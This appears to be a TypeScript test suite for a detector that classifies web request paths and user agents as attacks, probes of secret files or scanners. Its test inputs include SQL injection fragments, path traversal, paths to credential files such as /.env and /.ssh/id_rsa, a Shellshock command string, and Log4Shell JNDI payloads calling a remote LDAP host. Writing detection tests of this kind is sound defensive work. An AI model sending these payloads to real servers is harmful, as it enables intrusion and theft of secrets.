import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { Batch, Content, Kind } from '../contact.ts';
import { type Samples, SCORING, TUNING } from './content.samples.ts';
import { readAgent, readTarget } from './content.ts';

const batch = new Batch();

function read(target: string): { content: number; route: number; text: string } {
  // Bytes around the target must not matter: readers pass a slice of a line.
  const bytes = Buffer.from(`"${target}" %27or 1=1`, 'latin1');
  const end = bytes.length - ' %27or 1=1'.length - 1;
  batch.begin(0, Kind.web);
  readTarget(bytes, 1, end, batch, 0);
  const at = batch.textAt[0]!;
  return {
    content: batch.content[0]!,
    route: batch.route[0]!,
    text: bytes.toString('latin1', at, at + batch.textLength[0]!),
  };
}

function agent(name: string): number {
  const bytes = Buffer.from(name, 'latin1');
  return readAgent(bytes, 0, bytes.length);
}

/** Percent-encodes every byte. */
function encode(text: string): string {
  return Array.from(Buffer.from(text, 'latin1'), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
}

describe.each([
  ['the half that the rules were written against', TUNING],
  ['the half in other words', SCORING],
] as ReadonlyArray<[string, Samples]>)('samples, %s', (_, samples) => {
  test('there are enough of both sides', () => {
    expect(samples.attacks.length).toBeGreaterThanOrEqual(60);
    expect(samples.honest.length).toBeGreaterThanOrEqual(100);
  });

  test.each(samples.attacks)('%s carries an attack of its kind', (target, bit) => {
    expect(read(target).content & bit).toBe(bit);
  });

  test.each(samples.honest)('%s is honest', (target) => {
    expect(read(target).content).toBe(0);
  });

  test('an attack in a value is still one when every byte of the value is encoded once more', () => {
    for (const [target, bit] of samples.attacks) {
      const equals = target.indexOf('=');
      // Encoding the & and = inside makes another request of it; only single values are comparable.
      if (
        equals < 0 ||
        target.slice(equals + 1).includes('&') ||
        !target.includes('?') ||
        target.includes('\\')
      )
        continue;
      if (target.indexOf('?') > equals || (bit & (Content.probePath | Content.commandInjection)) !== 0)
        continue;
      const value = target
        .slice(equals + 1)
        .replaceAll('+', ' ')
        .replaceAll('\\', '');
      const hidden = `${target.slice(0, equals + 1)}${encode(value)}`;
      expect([hidden, read(hidden).content & bit]).toEqual([hidden, bit]);
    }
  });
});

describe('the pass over raw bytes', () => {
  const plain = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          '/',
          '.',
          '-',
          '_',
          '?',
          '&',
          '=',
          ',',
          ':',
          '~',
          '@',
          '!',
          '[',
          ']',
          '/..',
          '../',
          '/wp-admin',
        ),
        fc.constantFrom(
          '/.env',
          'cmd=',
          'ls',
          'jndi:',
          '/owa',
          '.bak',
          'union',
          'select',
          'order',
          'by',
          '/backup.zip',
        ),
        fc.stringMatching(/^[a-zA-Z0-9]{1,9}$/),
      ),
      { maxLength: 14 },
    )
    .map((parts) => `/x${parts.join('')}`);

  test('says what the decoding pass says', () => {
    fc.assert(
      fc.property(plain, (target) => {
        const encoded = `/%78${target.slice(2)}`;
        expect(read(encoded)).toEqual({ ...read(target), text: encoded });
      }),
      { numRuns: 3000 },
    );
  });

  test('never throws and stays inside the target, whatever its bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (noise) => {
        const bytes = Buffer.from(noise);
        const alone = Buffer.concat([
          Buffer.from("union select 1,2 -- '"),
          bytes,
          Buffer.from("' or 1=1 -- ${jndi:"),
        ]);
        batch.begin(0, Kind.web);
        readTarget(bytes, 0, bytes.length, batch, 0);
        const expected = [batch.content[0], batch.route[0]];
        batch.begin(0, Kind.web);
        readTarget(alone, 21, 21 + bytes.length, batch, 0);
        expect([batch.content[0], batch.route[0]]).toEqual(expected);
      }),
      { numRuns: 2000 },
    );
  });

  test('says the same of a target whatever was read before it', () => {
    const targets = [...TUNING.attacks, ...SCORING.attacks].map(([target]) => target);
    const cut = fc.tuple(fc.constantFrom(...targets), fc.nat(80), fc.constantFrom(...targets));
    fc.assert(
      fc.property(cut, ([target, length, other]) => {
        const short = target.slice(0, length);
        read('/');
        const first = read(short);
        read(other);
        expect(read(short)).toEqual(first);
      }),
      { numRuns: 3000 },
    );
  });

  test('a target of 64 KiB of what every rule is asked about takes no longer than its length allows', () => {
    for (const unit of [
      "'",
      '(',
      ';',
      '|',
      '=',
      '/*',
      '<',
      '${',
      "' or ",
      '((select ',
      '%25',
      '../',
      'union(',
      '&&',
      '`',
    ]) {
      expect(read(`/?q=${unit.repeat(65_000 / unit.length)}`).text.length).toBeGreaterThan(60_000);
    }
  });
});

describe('secret paths', () => {
  test.each([
    '/.env',
    '/app/.env.production',
    '/.git/config',
    '/wp-config.php.bak',
    '/wp-config.php.txt',
    '/db.sql',
    '/backup.zip',
    '/site.tar.gz',
    '/.ssh/id_rsa',
    '/keys/server.key',
    '/terraform.tfstate',
    '/web.config',
    '/x/index.php~',
  ])('%s should never be served', (target) => {
    expect(read(target).content & Content.secretPath).toBe(Content.secretPath);
  });

  test.each([
    '/wp-login.php',
    '/phpmyadmin/',
    '/wp-config.php',
    '/server-status',
    '/.gitignore',
    '/.well-known/security.txt',
    '/search?q=.env',
    '/files/results.zip',
    '/downloads/latest.zip',
    '/.DS_Store',
  ])('%s may be', (target) => {
    expect(read(target).content & Content.secretPath).toBe(0);
  });
});

describe('route', () => {
  test('digits, ids, letter case, encoding and query do not change it', () => {
    const route = read('/lookup/2026/550e8400-e29b-41d4-a716-446655440000/form').route;
    expect(read('/Lookup/7/123e4567-e89b-12d3-a456-426614174000/FORM?id=9').route).toBe(route);
    expect(read('/%6Cookup/19/00000000-0000-0000-0000-000000000000/form').route).toBe(route);
    expect(read('http://www.example.gov/lookup/1/550e8400-e29b-41d4-a716-446655440000/form').route).toBe(
      route,
    );
    expect(read('/lookup/2026/550e8400-e29b-41d4-a716-446655440000/forms').route).not.toBe(route);
    expect(read('/assets/app.3f2a9c1b.js').route).toBe(read('/assets/app.77a01bcd09ff.js').route);
    expect(read('/deadline').route).not.toBe(read('/deadbeef').route);
  });

  test('differs wherever the words of the path differ', () => {
    const words = fc.array(fc.stringMatching(/^[g-z]{1,12}$/), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(words, words, (a, b) => {
        const [left, right] = [`/${a.join('/')}`, `/${b.join('/')}`];
        expect(read(left).route === read(right).route).toBe(left === right);
      }),
    );
  });

  test('only the first 256 bytes of a path count', () => {
    const long = `/${'g'.repeat(300)}`;
    expect(read(`${long}h`).route).toBe(read(long).route);
    expect(read('').route).not.toBe(0);
  });
});

describe('user agents', () => {
  test.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
    'Mozilla/5.0 zgrab/0.x',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
    'gobuster/3.6',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'Fuzz Faster U Fool v2.1.0-dev',
    'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
    'Expanse, a Palo Alto Networks company, searches across the global IPv4 space',
  ])('%s names itself a scanner', (name) => {
    expect(agent(name) & Content.scannerAgent).toBe(Content.scannerAgent);
  });

  test.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    'Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)',
    'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
    'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
    'check_http/v2.3.3 (monitoring-plugins 2.3.3)',
    'ELB-HealthChecker/2.0',
    'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
    'curl/8.5.0',
    'python-requests/2.31.0',
    'Go-http-client/1.1',
    '-',
    '',
  ])('%s does not', (name) => {
    expect(agent(name)).toBe(0);
  });

  test('a payload in the name is code', () => {
    expect(agent('() { :; }; /bin/bash -c "id"')).toBe(Content.codeExecution);
    expect(agent('Mozilla/5.0 ${jndi:ldap://198.51.100.4/a}')).toBe(Content.codeExecution);
    expect(agent('${${lower:J}ndi:ldap://198.51.100.4/a}')).toBe(Content.codeExecution);
  });

  test('is found wherever it stands', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[ -~]{0,40}$/), fc.stringMatching(/^[ -~]{0,40}$/), (before, after) => {
        expect(agent(`${before}sQLmap${after}`) & Content.scannerAgent).toBe(Content.scannerAgent);
      }),
    );
  });
});
